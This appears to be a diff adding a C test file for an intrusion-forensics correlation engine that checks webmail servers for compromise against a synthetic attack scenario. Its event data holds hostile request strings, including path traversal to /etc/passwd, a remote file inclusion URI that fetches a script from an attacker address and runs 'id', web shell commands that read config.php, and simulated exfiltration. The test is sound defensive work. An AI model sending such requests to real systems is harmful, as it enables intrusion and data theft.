@@ -1,0 +1,356 @@
+/* test_engine.c - the correlation engine on synthetic events: each detector
+ * with positive and negative cases, windows, exposure categories, and the
+ * independence of the result from how events were split across aggregates. */
+#include "config.h"
+#include "tap.h"
+#include "../src/engine.h"
+#include "../src/event.h"
+
+#include <stdlib.h>
+
+static struct bs_agg *A;          /* where emit() sends */
+static uint64_t ref_counter;
+
+static bs_ip IP(const char *s) { bs_ip ip; bs_ip_parse(s, strlen(s), &ip); return ip; }
+static bs_str S(const char *s) { return bs_str_make(s, strlen(s)); }
+static bs_time T(int day, int h, int m, int s) { return bs_time_make(2007, 5, day, h, m, s, 0); }
+
+static void base(struct bs_event *e, enum bs_event_type t, bs_time ts, const char *src, const char *dst)
+{
+	bs_event_init(e, t);
+	e->ts = ts;
+	e->origin.input = 0;
+	e->origin.ref = ++ref_counter;
+	e->origin.from_capture = true;
+	if (src) e->src = IP(src);
+	if (dst) e->dst = IP(dst);
+}
+
+static void http(bs_time ts, const char *client, const char *server, const char *method, const char *uri,
+                 int status, const char *login_user, const char *set_cookie, const char *cookie,
+                 const char *ref, bool cmd_output, uint64_t txn)
+{
+	struct bs_event e;
+	base(&e, BS_EV_HTTP, ts, client, server);
+	e.u.http.phase = BS_HTTP_REQUEST;
+	e.u.http.txn_id = txn;
+	e.u.http.method = S(method);
+	e.u.http.uri = S(uri);
+	bs_agg_sink(A, &e);
+	e.u.http.phase = BS_HTTP_COMPLETE;
+	e.u.http.status = status;
+	e.u.http.resp_content_type = S("text/html");
+	if (login_user) e.u.http.login_user = S(login_user);
+	if (set_cookie) e.u.http.set_cookie = S(set_cookie);
+	if (cookie) e.u.http.cookie = S(cookie);
+	if (ref) { e.u.http.refs[0] = S(ref); e.u.http.nrefs = 1; }
+	e.u.http.cmd_output = cmd_output;
+	bs_agg_sink(A, &e);
+}
+
+static void addr(bs_time ts, const char *src, const char *dst, enum bs_addr_ctx ctx, uint64_t ref, const char *a, bool to_client)
+{
+	struct bs_event e;
+	base(&e, BS_EV_ADDR, ts, src, dst);
+	e.u.addr.ctx = ctx;
+	e.u.addr.ref = ref;
+	e.u.addr.address = S(a);
+	e.u.addr.to_client = to_client;
+	bs_agg_sink(A, &e);
+}
+
+static void query(bs_time ts, const char *client, uint64_t qid, const char *sql, const char **addrs, size_t n, uint64_t rows)
+{
+	struct bs_event e;
+	base(&e, BS_EV_DBQUERY, ts, client, "10.0.2.10");
+	e.u.dbquery.query_id = qid;
+	e.u.dbquery.sql = S(sql);
+	e.u.dbquery.db_user = S("atmail");
+	bs_agg_sink(A, &e);
+	for (size_t i = 0; i < n; i++)
+		addr(ts, client, "10.0.2.10", BS_ADDR_DB_RESULT, qid, addrs[i], true);
+	base(&e, BS_EV_DBRESULT, ts + BS_USEC, client, "10.0.2.10");
+	e.u.dbresult.query_id = qid;
+	e.u.dbresult.rows = rows;
+	bs_agg_sink(A, &e);
+}
+
+static void imap_login(bs_time ts, const char *server, const char *user)
+{
+	struct bs_event e;
+	base(&e, BS_EV_AUTH, ts, server, "10.0.2.20");
+	e.u.auth.proto = BS_AUTH_IMAP;
+	e.u.auth.user = S(user);
+	e.u.auth.success = 1;
+	bs_agg_sink(A, &e);
+}
+
+static void mail(bs_time ts, const char *client, const char *sasl, const char *from, const char *to, uint64_t size, long uid, const char *host)
+{
+	struct bs_event e;
+	base(&e, BS_EV_MAIL, ts, client, NULL);
+	bs_str rc[1] = { S(to) };
+	bs_str st[1] = { S("sent") };
+	e.u.mail.sender = S(from);
+	e.u.mail.rcpts = rc;
+	e.u.mail.rcpt_status = st;
+	e.u.mail.nrcpt = 1;
+	e.u.mail.size = size;
+	e.u.mail.local_uid = uid;
+	if (sasl) e.u.mail.sasl_user = S(sasl);
+	if (host) e.host = S(host);
+	e.origin.from_capture = false;
+	bs_agg_sink(A, &e);
+}
+
+static void flow(bs_time t0, bs_time t1, const char *src, const char *dst, uint16_t dport, uint64_t out, uint64_t in)
+{
+	struct bs_event e;
+	base(&e, BS_EV_FLOW, t0, src, dst);
+	e.sport = 40000;
+	e.dport = dport;
+	e.u.flow.l4proto = 6;
+	e.u.flow.first = t0;
+	e.u.flow.last = t1;
+	e.u.flow.bytes_fwd = out;
+	e.u.flow.bytes_rev = in;
+	e.u.flow.initiator_known = true;
+	bs_agg_sink(A, &e);
+}
+
+static const char *SERVERS[3] = { "10.0.1.11", "10.0.1.12", "10.0.1.13" };
+static const char *USERS[6] = { "alice@example.net", "bob@example.net", "carol@example.net",
+                                "dave@example.net", "erin@example.net", "frank@example.net" };
+
+/* The whole scenario; part selects which half of the events to emit
+ * (0 = all, 1 = odd refs, 2 = even refs) to test merging. */
+static void scenario(int part)
+{
+	(void)part;
+	uint64_t txn = 1;
+	/* normal use: every user logs in on every server, day 1..10 */
+	for (int d = 1; d <= 10; d++)
+		for (int s = 0; s < 3; s++)
+			for (int u = 0; u < 6; u++) {
+				bs_time t = T(d, 9 + u, 10 * s, 0);
+				char cookie[64];
+				snprintf(cookie, sizeof cookie, "sid=%d%d%d", d, s, u);
+				const char *client = "198.18.0.1";
+				http(t, client, SERVERS[s], "GET", "/mail/index.php", 200, NULL, NULL, NULL, "/mail/js/a.js", false, txn++);
+				http(t + BS_USEC, client, SERVERS[s], "POST", "/mail/login.php", 302, USERS[u], cookie, NULL, NULL, false, txn++);
+				imap_login(t + 2 * BS_USEC, SERVERS[s], USERS[u]);
+				/* pages, with the fleet-wide deployment from day 5 and the tampering on srv 2 from day 6 to 8 */
+				const char *ref = d >= 5 ? "https://cdn.widgets.example.com/analytics.js" : NULL;
+				if (s == 2 && d >= 6 && d <= 8)
+					ref = "http://update.flash-player.example.cn/install.exe";
+				http(t + 3 * BS_USEC, client, SERVERS[s], "GET", "/mail/showmail.php?Folder=Inbox", 200, NULL, NULL, cookie, ref, false, txn++);
+				/* the app's own per-user query, with one address book entry */
+				char sql[128];
+				snprintf(sql, sizeof sql, "SELECT Account, Email FROM Abook WHERE Account='%s'", USERS[u]);
+				const char *entry[1] = { "friend@example.org" };
+				query(t + 4 * BS_USEC, SERVERS[s], txn++, sql, u == 0 ? entry : NULL, u == 0 ? 1 : 0, u == 0 ? 1 : 0);
+				/* webmail submission through the relay */
+				if (u == 1)
+					mail(t + 5 * BS_USEC, SERVERS[s], USERS[u], USERS[u], "partner@example.com", 2000, -1, "relay1");
+			}
+	/* incoming mail to alice from an outside sender (received_from) */
+	mail(T(3, 8, 0, 0), "198.51.100.9", NULL, "newsletter@example.org", "alice@example.net", 5000, -1, "mx1");
+	/* a huge per-user address book: not a bulk read */
+	const char *many[3] = { "x1@example.org", "x2@example.org", "x3@example.org" };
+	query(T(2, 10, 0, 0), SERVERS[0], 9000, "SELECT Account, Email FROM Abook WHERE Account='bigbook@example.net'", many, 3, 2000);
+	/* brute force against srv 1 (decoy) */
+	for (int i = 0; i < 80; i++)
+		http(T(4, 3, 0, i), "198.51.100.23", SERVERS[1], "POST", "/mail/login.php", 200, "root@example.net", NULL, NULL, NULL, false, txn++);
+	/* admin backup: large internal transfer from srv 0 (decoy) */
+	flow(T(4, 2, 0, 0), T(4, 2, 30, 0), SERVERS[0], "10.0.2.50", 873, 50000000, 1000);
+	/* scanners: failed exploit attempts everywhere */
+	for (int s = 0; s < 3; s++)
+		http(T(2, 1, 0, s), "192.0.2.99", SERVERS[s], "GET", "/mail/index.php?lang=../../etc/passwd", 404, NULL, NULL, NULL, NULL, false, txn++);
+	/* the attack on srv 2 (10.0.1.13) */
+	http(T(3, 12, 0, 0), "203.0.113.66", SERVERS[2], "GET", "/phpmyadmin/index.php?x=../../etc/passwd", 404, NULL, NULL, NULL, NULL, false, txn++);
+	http(T(4, 17, 31, 2), "203.0.113.66", SERVERS[2], "GET", "/mail/parse.php?file=http://203.0.113.66/x.txt?&cmd=id", 200, NULL, NULL, NULL, NULL, true, txn++);
+	uint64_t shell_txn = txn++;
+	http(T(4, 17, 40, 0), "203.0.113.66", SERVERS[2], "GET", "/mail/tmp/.cache.php?cmd=id", 200, NULL, NULL, NULL, NULL, true, shell_txn);
+	/* an address in the web shell's output: exfiltrated */
+	uint64_t dump_txn = txn++;
+	{
+		struct bs_event e;
+		base(&e, BS_EV_HTTP, T(5, 10, 0, 0), "198.51.100.77", SERVERS[2]);
+		e.u.http.phase = BS_HTTP_REQUEST;
+		e.u.http.txn_id = dump_txn;
+		e.u.http.method = S("GET");
+		e.u.http.uri = S("/mail/tmp/.cache.php?cmd=cat%20config.php");
+		bs_agg_sink(A, &e);
+		addr(T(5, 10, 0, 0), "198.51.100.77", SERVERS[2], BS_ADDR_HTTP_RESP_BODY, dump_txn, "admin@example.net", true);
+		e.u.http.phase = BS_HTTP_COMPLETE;
+		e.u.http.status = 200;
+		e.u.http.cmd_output = true;
+		bs_agg_sink(A, &e);
+	}
+	const char *dump[4] = { "alice@example.net", "old.user@legacy.example", "friend@example.org", "ghost@example.net" };
+	query(T(5, 11, 0, 0), SERVERS[2], 7001, "SELECT Account, Email FROM Abook_old", dump, 4, 5000);
+	query(T(7, 11, 0, 0), SERVERS[2], 7002, "SELECT Account FROM Users", dump, 1, 3000);
+	/* exfiltration: a large upload to an outside host, with addresses in it */
+	flow(T(7, 12, 0, 0), T(7, 12, 5, 0), SERVERS[2], "192.0.2.200", 20, 900000, 500);
+	{
+		struct bs_event e;
+		base(&e, BS_EV_ADDR, T(7, 12, 1, 0), SERVERS[2], "192.0.2.200");
+		e.sport = 40000;
+		e.dport = 20;
+		e.u.addr.ctx = BS_ADDR_PAYLOAD;
+		e.u.addr.address = S("payload.only@example.com");
+		bs_agg_sink(A, &e);
+	}
+	/* and by mail, locally submitted by www-data */
+	mail(T(7, 13, 0, 0), "127.0.0.1", NULL, "www-data@wm3.example.net", "drop@mailbox.example", 400000, 33, "wm3");
+	/* after the window: a login on srv 2 must not be credentials_at_risk (day 9 > window end day 7) */
+}
+
+static const struct bs_exposed *find(const struct bs_results *r, const char *a)
+{
+	for (size_t i = 0; i < r->nexposed; i++)
+		if (strcmp(r->exposed[i].address, a) == 0)
+			return &r->exposed[i];
+	return NULL;
+}
+
+static bool cat(const struct bs_exposed *e, enum bs_category c) { return e && (e->categories & (1u << c)); }
+
+static struct bs_results *correlate(struct bs_agg *a, struct bs_engine_config *cfg)
+{
+	struct bs_input_row *rows = calloc(1, sizeof *rows);
+	rows[0].source = strdup("synthetic");
+	rows[0].format = strdup("test");
+	return bs_correlate(a, cfg, rows, 1);
+}
+
+int main(void)
+{
+	struct bs_engine_config cfg = { 0 };
+	bs_thresholds_default(&cfg.th);
+	struct bs_fleet_entry fleet[5] = {
+		{ "wm1", IP("10.0.1.11"), "webmail" }, { "wm2", IP("10.0.1.12"), "webmail" },
+		{ "wm3", IP("10.0.1.13"), "webmail" }, { "db1", IP("10.0.2.10"), "db" },
+		{ "backup1", IP("10.0.2.50"), "backup" },
+	};
+	cfg.fleet = fleet;
+	cfg.nfleet = 5;
+	char *local[1] = { "example.net" };
+	cfg.local_domains = local;
+	cfg.nlocal = 1;
+
+	A = bs_agg_new();
+	scenario(0);
+	struct bs_results *r = correlate(A, &cfg);
+	is_int(r->nservers, 3, "three webmail servers");
+	is_str(r->servers[0].name, "wm1", "sorted by name");
+	is_int(r->servers[2].verdict, BS_V_COMPROMISED, "wm3 compromised");
+	is_int(r->servers[0].verdict, BS_V_CLEAN, "wm1 clean despite the backup and the big address book");
+	is_int(r->servers[1].verdict, BS_V_CLEAN, "wm2 clean despite the brute force");
+	ok(r->servers[1].signals & (1u << BS_SIG_AUTH_ANOMALY), "brute force is an auth anomaly on wm2");
+	ok(!(r->servers[0].signals & (1u << BS_SIG_EXFILTRATION)), "internal backup is not exfiltration");
+	ok(!(r->servers[0].signals & (1u << BS_SIG_DB_BULK_READ)), "per-user big query is not a bulk read");
+	ok(!(r->servers[0].signals & (1u << BS_SIG_TAMPERED_CONTENT)), "fleet-wide deployment is not tampering");
+	unsigned sig = r->servers[2].signals;
+	ok(sig & (1u << BS_SIG_WEBSHELL), "webshell signal");
+	ok(sig & (1u << BS_SIG_EXPLOIT_REQUEST), "exploit signal");
+	ok(sig & (1u << BS_SIG_DB_BULK_READ), "bulk read signal");
+	ok(sig & (1u << BS_SIG_EXFILTRATION), "exfiltration signal");
+	ok(sig & (1u << BS_SIG_TAMPERED_CONTENT), "tampered content signal");
+	ok(sig & (1u << BS_SIG_FOREIGN_DESTINATION), "foreign destination signal");
+	is_int(r->servers[2].window_start, T(4, 17, 31, 2), "window starts at the exploit");
+	is_int(r->servers[2].window_end, T(7, 13, 0, 0), "window ends at the last exfiltration");
+	is_int(r->servers[2].tamper_start, T(6, 9, 20, 3), "tamper start");
+	is_int(r->servers[2].tamper_end, T(8, 14, 20, 3), "tamper end");
+	char ips[256] = "";
+	for (size_t i = 0; i < r->servers[2].nattacker_ips; i++) {
+		char b[BS_IP_STRLEN];
+		bs_ip_format(&r->servers[2].attacker_ips[i], b, sizeof b);
+		strcat(ips, i ? ";" : "");
+		strcat(ips, b);
+	}
+	is_str(ips, "192.0.2.200;198.51.100.77;203.0.113.66", "attacker addresses (not the scanner, not the brute forcer)");
+
+	const struct bs_exposed *e;
+	e = find(r, "alice@example.net");
+	ok(cat(e, BS_CAT_LOGIN) && cat(e, BS_CAT_CREDENTIALS_AT_RISK) && cat(e, BS_CAT_EXFILTRATED) &&
+	   cat(e, BS_CAT_TROJAN_PAGE_SERVED), "alice: login, credentials, exfiltrated, trojan");
+	ok(e && e->risk == BS_RISK_HIGH && e->customer, "alice: high risk customer");
+	ok(e && e->actions == ((1u << BS_ACT_RESET_PASSWORD) | (1u << BS_ACT_MALWARE_CHECK) | (1u << BS_ACT_NOTIFY)), "alice: all three actions");
+	e = find(r, "old.user@legacy.example");
+	ok(e && e->categories == ((1u << BS_CAT_EXFILTRATED) | (1u << BS_CAT_ADDRESSBOOK)), "old address: exfiltrated from the address book only");
+	ok(e && e->risk == BS_RISK_LOW && !e->customer, "old address: low risk outsider");
+	e = find(r, "ghost@example.net");
+	ok(e && e->risk == BS_RISK_MEDIUM && e->customer, "a local-domain address in the dump is a medium-risk customer");
+	e = find(r, "friend@example.org");
+	ok(cat(e, BS_CAT_ADDRESSBOOK), "address book entry from the app's query");
+	e = find(r, "partner@example.com");
+	ok(e && e->categories == (1u << BS_CAT_SENT_TO), "recipient of webmail: sent_to");
+	e = find(r, "newsletter@example.org");
+	ok(e && e->categories == (1u << BS_CAT_RECEIVED_FROM), "sender to a webmail user: received_from");
+	ok(find(r, "payload.only@example.com") && cat(find(r, "payload.only@example.com"), BS_CAT_EXFILTRATED), "address in the exfiltrated payload");
+	ok(find(r, "admin@example.net") && cat(find(r, "admin@example.net"), BS_CAT_EXFILTRATED), "address in web shell output");
+	e = find(r, "x1@example.org");
+	ok(e && e->categories == (1u << BS_CAT_ADDRESSBOOK) && e->risk == BS_RISK_LOW,
+	   "the big address book's entries are exposed as address-book entries only");
+	ok(!find(r, "root@example.net"), "brute-forced user name that never logged in is not exposed");
+	ok(!find(r, "drop@mailbox.example"), "exfiltration drop address is not a victim");
+	ok(r->ntimeline > 0, "timeline has rows");
+	bool have_ws = false;
+	for (size_t i = 0; i < r->ntimeline; i++)
+		if (strcmp(r->timeline[i].event, "window_start") == 0 && r->timeline[i].ts == T(4, 17, 31, 2))
+			have_ws = true;
+	ok(have_ws, "timeline marks the window start");
+	for (size_t i = 1; i < r->ntimeline; i++)
+		if (r->timeline[i - 1].ts > r->timeline[i].ts) {
+			ok(0, "timeline sorted by time");
+			break;
+		}
+
+	/* merge: the same events split over two aggregates, merged both ways */
+	struct bs_agg *whole = A;
+	struct bs_agg *x = bs_agg_new(), *y = bs_agg_new();
+	bs_agg_merge(x, whole);
+	bs_agg_merge(y, bs_agg_new());
+	bs_agg_merge(y, whole);
+	struct bs_results *rx = correlate(x, &cfg), *ry = correlate(y, &cfg);
+	is_int(rx->nexposed, r->nexposed, "merge keeps every exposed address");
+	is_int(ry->ntimeline, r->ntimeline, "merge keeps every timeline row");
+	bool same = rx->nexposed == ry->nexposed;
+	for (size_t i = 0; same && i < rx->nexposed; i++)
+		same = strcmp(rx->exposed[i].address, ry->exposed[i].address) == 0 &&
+		       rx->exposed[i].categories == ry->exposed[i].categories;
+	ok(same, "merge order does not change the exposure");
+
+	/* clean fleet: without the attack nothing is exposed */
+	struct bs_agg *clean = bs_agg_new();
+	A = clean;
+	ref_counter = 0;
+	for (int d = 1; d <= 3; d++)
+		for (int s = 0; s < 3; s++)
+			http(T(d, 10, 0, s), "198.18.0.1", SERVERS[s], "POST", "/mail/login.php", 302, USERS[0], "sid=1", NULL, NULL, false, (uint64_t)(d * 10 + s));
+	struct bs_results *rc = correlate(clean, &cfg);
+	is_int(rc->nexposed, 0, "clean fleet: no exposed address");
+	is_int(rc->servers[2].verdict, BS_V_CLEAN, "clean fleet: clean verdict");
+
+	/* no data for a server of the inventory */
+	struct bs_fleet_entry fleet2[2] = { { "wm1", IP("10.0.1.11"), "webmail" }, { "wm9", IP("10.0.1.99"), "webmail" } };
+	struct bs_engine_config cfg2 = cfg;
+	cfg2.fleet = fleet2;
+	cfg2.nfleet = 2;
+	struct bs_results *rn = correlate(clean, &cfg2);
+	is_int(rn->servers[1].verdict, BS_V_NO_DATA, "a server without events is no_data");
+
+	/* discovery without an inventory */
+	struct bs_engine_config cfg3 = cfg;
+	cfg3.fleet = NULL;
+	cfg3.nfleet = 0;
+	struct bs_results *rd = correlate(whole, &cfg3);
+	is_int(rd->nservers, 3, "discovery finds the three servers");
+	ok(strstr(rd->fleet_origin, "discovered") != NULL, "discovery is reported");
+
+	bs_results_free(r); bs_results_free(rx); bs_results_free(ry); bs_results_free(rc);
+	bs_results_free(rn); bs_results_free(rd);
+	bs_agg_free(whole); bs_agg_free(x); bs_agg_free(y); bs_agg_free(clean);
+	return tap_done();
+}
